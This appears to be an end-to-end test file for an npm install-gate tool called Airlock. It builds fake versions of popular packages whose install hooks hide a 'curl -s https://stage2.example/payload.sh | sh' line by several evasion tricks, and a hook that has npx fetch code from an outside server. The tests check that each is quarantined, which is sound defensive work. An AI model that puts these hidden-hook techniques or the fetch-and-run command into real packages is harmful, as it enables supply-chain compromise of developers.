/**
 * What install hooks run, followed as npm and Node run it, with the real npm client and the
 * default policy. Each package has a popular name and an old version, so only what its install
 * code does can hold it — the case of a hijacked popular package. Each hides its payload a way
 * the gate used to miss: inside `node -e`, in a file named without its extension, behind
 * `npm run` (a script named `__proto__` among them), behind a `require`, in a value of
 * package.json `config` a script runs, past the first 512 KiB of a big file, past what the gate
 * reads at all, and behind code written to use up the rules' CPU budget. npm would run every one
 * of them (each first writes a marker file, which shows it ran); Airlock quarantines them instead, and installs popular packages whose install code it
 * could follow to the end and found harmless — one of them giving a child process the parent's
 * environment as esbuild's install does, which the gate used to take for an environment dump.
 */
import { test } from 'node:test';
import assert from 'node:assert/strict';
import { existsSync } from 'node:fs';
import { join } from 'node:path';
import type { FixturePackage } from '../../support/npm-registry/index.ts';
import { daysAgo, outsideServer, quarantineIdIn, signalsE2e } from './support.ts';

/** Install code that marks that it ran, and names a second stage it would pipe to a shell (never run). */
const PAYLOAD = [
  "require('fs').writeFileSync('HOOK_RAN', '');",
  "const stage2 = 'curl -s https://stage2.example/payload.sh | sh';",
  "if (process.env.AIRLOCK_E2E_NEVER === 'set') require('child_process').execSync(stage2);",
  '',
].join('\n');
const PADDING_LINE = '// vendored code, nothing to see here\n';
/** Almost 4 MiB (what the gate reads of a file) on which the rules take about 1.5 s of CPU. */
const SLOW = 'curl '.repeat(800_000);

function pkg(name: string, scripts: Record<string, string>, files: { path: string; content: string }[]): FixturePackage {
  return { name, versions: [{ version: '9.0.0', publishedAt: daysAgo(300), manifest: { scripts }, files }] };
}

const CASES: readonly { name: string; how: string; reason: RegExp; pkg: FixturePackage }[] = [
  {
    name: 'core-js',
    how: 'the file is named inside node -e',
    reason: /pipes it into a shell.*\[install_behaviour\.dangerous\]/,
    pkg: pkg('core-js', { postinstall: 'node -e "try{require(\'./postinstall\')}catch(e){}"' }, [{ path: 'postinstall.js', content: PAYLOAD }]),
  },
  {
    name: 'nodemon',
    how: 'the file is named without its extension',
    reason: /pipes it into a shell.*\[install_behaviour\.dangerous\]/,
    pkg: pkg('nodemon', { postinstall: 'node bin/postinstall' }, [{ path: 'bin/postinstall.js', content: PAYLOAD }]),
  },
  {
    name: 'esbuild',
    how: 'the hook runs another script by name',
    reason: /pipes it into a shell.*\[install_behaviour\.dangerous\]/,
    pkg: pkg('esbuild', { postinstall: 'npm run setup --silent', setup: 'node lib/setup.js' }, [{ path: 'lib/setup.js', content: PAYLOAD }]),
  },
  {
    name: 'husky',
    how: 'the file the hook runs requires the payload',
    reason: /pipes it into a shell.*\[install_behaviour\.dangerous\]/,
    pkg: pkg('husky', { postinstall: 'node install.js' }, [
      { path: 'install.js', content: "require('./lib/check');\n" },
      { path: 'lib/check.js', content: PAYLOAD },
    ]),
  },
  {
    name: 'bcrypt',
    how: 'the hook runs a value of package.json config (npm_package_config_cmd)',
    reason: /pipes it into a shell.*\[install_behaviour\.dangerous\]/,
    pkg: {
      name: 'bcrypt',
      versions: [
        {
          version: '9.0.0',
          publishedAt: daysAgo(300),
          manifest: { config: { cmd: "node -e \"require('fs').writeFileSync('HOOK_RAN', '')\"; curl -s https://stage2.example/payload.sh | sh" }, scripts: { postinstall: 'sh -c "$npm_package_config_cmd"' } },
        },
      ],
    },
  },
  {
    name: 'sharp',
    how: 'the payload comes after 600 KiB of code',
    reason: /pipes it into a shell.*\[install_behaviour\.dangerous\]/,
    pkg: pkg('sharp', { install: 'node bundle.js' }, [{ path: 'bundle.js', content: `require('fs').writeFileSync('HOOK_RAN', '');\n${PADDING_LINE.repeat(16_000)}${PAYLOAD}` }]),
  },
  {
    name: 'puppeteer',
    how: 'the payload comes after more code than the gate reads of a file',
    reason: /runs install-time code Airlock could not analyse in full \(read in part: bundle\.js\).*\[install_behaviour\.incomplete\]/,
    pkg: pkg('puppeteer', { postinstall: 'node bundle.js' }, [{ path: 'bundle.js', content: `require('fs').writeFileSync('HOOK_RAN', '');\n${PADDING_LINE.repeat(120_000)}${PAYLOAD}` }]),
  },
  {
    name: 'playwright',
    how: 'the hook runs a script named __proto__ (npm runs it by name; set on an object, the key was dropped)',
    reason: /pipes it into a shell.*\[install_behaviour\.dangerous\]/,
    pkg: pkg('playwright', JSON.parse('{"postinstall": "npm run __proto__", "__proto__": "node setup.js"}') as Record<string, string>, [{ path: 'setup.js', content: PAYLOAD }]),
  },
  {
    name: 'cypress',
    how: 'the install code is written to make the rules slow (each `curl` in it scans 300 characters for a `|`)',
    reason: /could not analyse in full \(.*the analysis ran out of its CPU budget\).*\[install_behaviour\.incomplete\]/,
    pkg: pkg('cypress', { postinstall: 'node index.js' }, [
      { path: 'index.js', content: `require('fs').writeFileSync('HOOK_RAN', '');\nrequire('./lib/a');\nrequire('./lib/b');\n/* ${SLOW} */\n` },
      { path: 'lib/a.js', content: `/* ${SLOW} */\n${PAYLOAD}` },
      { path: 'lib/b.js', content: `/* ${SLOW} */\n` },
    ]),
  },
];

test('install hooks are followed as npm and Node run them: hidden payloads of popular packages are quarantined, harmless install code installs', async (t) => {
  const harmless = pkg('protobufjs', { postinstall: 'node -e "require(\'./scripts/postinstall\')"' }, [
    { path: 'scripts/postinstall.js', content: "const { version } = require('../package.json');\nrequire('./util/log')(version);\n" },
    { path: 'scripts/util/log.js', content: "module.exports = (v) => require('fs').writeFileSync('HOOK_RAN', String(v));\n" },
  ]);
  const childEnv = pkg('electron', { postinstall: 'node install.js' }, [
    {
      path: 'install.js',
      content: "const { execFileSync } = require('child_process');\nexecFileSync(process.execPath, ['-e', \"require('fs').writeFileSync('HOOK_RAN', '')\"], { env: { ...process.env, ELECTRON_SKIP_BINARY_DOWNLOAD: '1' } });\n",
    },
  ]);
  const s = await signalsE2e({ packages: [...CASES.map((c) => c.pkg), harmless, childEnv] });
  t.after(() => s.close());

  for (const c of CASES) {
    const p = await s.project();
    const held = await p.npm(['install', c.name]);
    assert.notEqual(held.code, 0, `${c.name} (${c.how}) installed:\n${held.output}`);
    assert.match(held.output, new RegExp(`${c.name}@9\\.0\\.0 is quarantined by Airlock: `), c.how);
    assert.match(held.output, c.reason, c.how);
    assert.equal(existsSync(join(p.dir, 'node_modules', c.name, 'HOOK_RAN')), false, `${c.name}: the hook did not run`);
    assert.ok(quarantineIdIn(held.output) !== null, held.output);
  }

  const p = await s.project();
  const ok = await p.npm(['install', 'protobufjs', 'electron']);
  assert.equal(ok.code, 0, ok.output);
  for (const name of ['protobufjs', 'electron']) {
    assert.equal(existsSync(join(p.dir, 'node_modules', name, 'HOOK_RAN')), true, `npm ran ${name}'s install code, which Airlock read to the end`);
  }
  const shown = await s.api<{ items: { phase: string; verdict: string; facts: { install_behaviour: { complete: boolean; hooks: { name: string }[] } } }[] }>(
    'GET',
    `decisions?purl=${encodeURIComponent('pkg:npm/protobufjs@9.0.0')}`,
  );
  assert.equal(shown.status, 200, JSON.stringify(shown.body));
  const artifact = shown.body.items.find((d) => d.phase === 'artifact');
  assert.deepEqual([artifact?.verdict, artifact?.facts.install_behaviour.complete], ['allow', true], JSON.stringify(shown.body));
});

test('an install hook that has npx run a package from another server is quarantined; npx never reaches it', async (t) => {
  const side = await outsideServer(t, 'stage-two');
  // By name, not by a raw IP address (which a rule of its own would catch).
  const url = side.url.replace('127.0.0.1', 'localhost');
  const s = await signalsE2e({ packages: [pkg('nx', { postinstall: `npx -y ${url}` }, [])] });
  t.after(() => s.close());
  const p = await s.project();
  const held = await p.npm(['install', 'nx']);
  assert.notEqual(held.code, 0, held.output);
  assert.match(held.output, /nx@9\.0\.0 is quarantined by Airlock: .*runs a package from outside the registry.*\[install_behaviour\.dangerous\]/);
  assert.deepEqual(side.asked, []);
});
